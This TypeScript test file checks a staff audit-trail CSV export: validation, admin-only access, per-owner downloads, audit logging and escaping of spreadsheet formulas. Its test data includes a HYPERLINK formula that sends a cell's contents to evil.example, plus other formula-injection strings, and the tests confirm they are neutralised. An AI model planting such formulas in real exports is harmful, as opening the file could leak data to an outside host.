import Papa from 'papaparse';
import { RunLongTask } from '../../src/platform/long-tasks/run-long-task.js';
import { recordAudit } from '../../src/access/audit.js';
import { postForm, sessionOf, signedIn } from '../support/staff.js';
import type { TestApp } from '../support/test-app.js';
import { startTestApp, TestClock } from '../support/test-app.js';

const HERE = '/staff/audit/export';
const NOW = new Date('2026-12-05T15:00:00Z');
const FORM = { from: '2026-12-01', to: '2026-12-03', reason: 'The yearly review' };
const FORMULA = '=HYPERLINK("https://evil.example?"&A1,"look")';

type Admin = Awaited<ReturnType<typeof signedIn>>;

let test: TestApp;
let admin: Admin;
const clock = new TestClock(NOW);

beforeAll(async () => {
  test = await startTestApp({ clock });
  admin = await signedIn(test, 'admin', { name: '+Ana "Núñez", Lead' });
});
beforeEach(async () => {
  clock.at = NOW;
  const { browserCookie, cookie } = await sessionOf(test, admin);
  Object.assign(admin, { browserCookie, cookie });
});
afterAll(() => test.close());

const get = (url: string, cookie = admin.cookie) => test.app.inject({ url, headers: { cookie } });

/** Asks for a file; the address of the task's page. */
async function ask(fields = FORM): Promise<string> {
  const answer = await postForm(test, HERE, fields, { cookie: admin.cookie });
  expect(answer.statusCode).toBe(303);
  return String(answer.headers.location);
}

const finish = (page: string) => test.app.get(RunLongTask).run(page.split('/').pop() ?? '');

async function happened(at: string, reason: string): Promise<void> {
  const event = { actor: `staff:${admin.id}`, action: 'seen', subjectType: 'booking', subjectId: 'b', reason };
  await test.database.transaction((tx) => recordAudit(tx, event, new Date(at)));
}

it('asks why, and for days that make sense', async () => {
  expect((await get(HERE)).body).toContain('value="2026-12-05"');
  for (const wrong of [{ reason: '' }, { to: '2026-11-30' }, { from: 'yesterday' }, { from: '2026-02-30' }]) {
    const answer = await postForm(test, HERE, { ...FORM, ...wrong }, { cookie: admin.cookie });
    expect(answer.statusCode).toBe(422);
  }
  expect(await test.database.query('select 1 from long_tasks')).toEqual([]);
});

it('is for administrators, who have just proven who they are', async () => {
  for (const role of ['coordinator', 'phone_desk', 'intake'] as const) {
    const { cookie } = await signedIn(test, role);
    expect((await get(HERE, cookie)).statusCode).toBe(403);
    expect((await postForm(test, HERE, FORM, { cookie })).statusCode).toBe(403);
  }
  clock.at = new Date(NOW.getTime() + 11 * 60_000);
  const answers = [await get(HERE), await postForm(test, HERE, FORM, { cookie: admin.cookie })];
  for (const { statusCode, headers } of answers) {
    expect([statusCode, headers.location]).toEqual([303, `/staff/confirm?next=${encodeURIComponent(HERE)}`]);
  }
});

it('shows how far it is, to its maker alone, and then gives the file', async () => {
  await happened('2026-12-02T10:00:00Z', 'ok');
  const page = await ask();
  const waiting = await get(page);
  expect(waiting.body).toMatch(
    /Audit trail, Dec 1, 2026 to Dec 3, 2026.*Waits for its turn.*<progress max="1" value="0"/,
  );
  expect(waiting.body).toContain('<noscript><meta http-equiv="refresh"');
  expect((await get(`${page}/file`)).statusCode).toBe(404);
  await finish(page);
  const done = await get(page);
  expect(done.body).toContain('Save the file');
  expect(done.body).not.toMatch(/data-alive|refresh/);
  expect((await get('/staff/tasks')).body).toContain(page);
  const other = await signedIn(test, 'admin');
  for (const url of [page, `${page}/file`]) expect((await get(url, other.cookie)).statusCode).toBe(404);
  expect((await get('/staff/tasks', other.cookie)).body).not.toContain(page);
  clock.at = new Date(NOW.getTime() + 25 * 60 * 60 * 1000);
  const { cookie } = await sessionOf(test, admin);
  expect((await get(`${page}/file`, cookie)).statusCode).toBe(404);
});

it('that it was asked for, why, and that the file was taken stand in the trail', async () => {
  const page = await ask({ ...FORM, reason: 'A question of counsel' });
  await finish(page);
  expect((await get(`${page}/file`)).statusCode).toBe(200);
  const trail = await test.database.query(
    `select actor, action, subject_id, reason, ip_ix is not null as "from" from audit_events
     where action in ('audit_exported', 'file_taken') order by id desc limit 2`,
  );
  const actor = `staff:${admin.id}`;
  expect(trail).toEqual([
    { actor, action: 'file_taken', subject_id: page.split('/').pop(), reason: null, from: true },
    {
      ...{ actor, action: 'audit_exported', subject_id: '2026-12-01/2026-12-03' },
      ...{ reason: 'A question of counsel', from: true },
    },
  ]);
});

it('holds each entry of those days in Boston once, whatever is written in it, and no formula', async () => {
  await test.database.query(
    `insert into audit_events (at, actor, action, subject_type, subject_id, reason)
     select timestamptz '2026-11-10 12:00Z' + n * interval '1 second', 'staff:x', 'seen', 'booking', n::text, 'line'
     from generate_series(1, 1203) n`,
  );
  const reasons = [FORMULA, '@SUM(1)', '-1+1', '\t=1', 'two\nlines; "quoted", señora 李'];
  for (const reason of reasons) await happened('2026-11-11T04:59:59Z', reason);
  await happened('2026-11-11T05:00:00Z', 'the day after');
  await happened('2026-11-10T04:59:59Z', 'the day before');
  const page = await ask({ ...FORM, from: '2026-11-10', to: '2026-11-10' });
  await happened('2026-11-10T15:00:00Z', 'after it was asked for');
  await finish(page);
  const answer = await get(`${page}/file`);
  expect(answer.headers).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'content-disposition': 'attachment; filename="audit-2026-11-10-to-2026-11-10.csv"',
    'cache-control': 'no-store',
  });
  const { data, errors } = Papa.parse<Record<string, string>>(answer.body, { header: true, skipEmptyLines: true });
  expect(errors).toEqual([]);
  expect(data).toHaveLength(1203 + reasons.length);
  expect(new Set(data.map(({ subject_id }) => subject_id)).size).toBe(1204);
  expect(data[0]).toMatchObject({ at: '2026-11-10T12:00:01.000Z', action: 'seen', actor: 'staff:x', actor_name: '' });
  expect(data.slice(1203).map(({ reason }) => reason)).toEqual([
    ...reasons.slice(0, 4).map((reason) => `'${reason}`),
    reasons[4],
  ]);
  expect(data.at(-1)?.actor_name).toBe(`'+Ana "Núñez", Lead`);
  const cells = data.flatMap((row) => Object.values(row));
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
});
